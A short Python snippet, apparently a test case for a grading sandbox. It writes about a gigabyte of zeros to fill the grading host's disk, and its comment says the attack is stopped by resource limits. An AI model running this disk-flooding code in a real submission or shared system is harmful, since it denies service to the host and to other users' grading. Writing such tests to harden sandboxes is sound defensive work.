# attack: fill the disk from the answer cell (a gigabyte into the submission's folder): the grading host, and every submission graded beside it, runs out of space
# defended-by: limits
_chunk = b"\0" * (8 << 20)
try:
    with open("flood.bin", "wb") as _fh:
        for _ in range(128):
            _fh.write(_chunk)
            _fh.flush()
except OSError as _exc:
    print("the disk said no:", _exc)
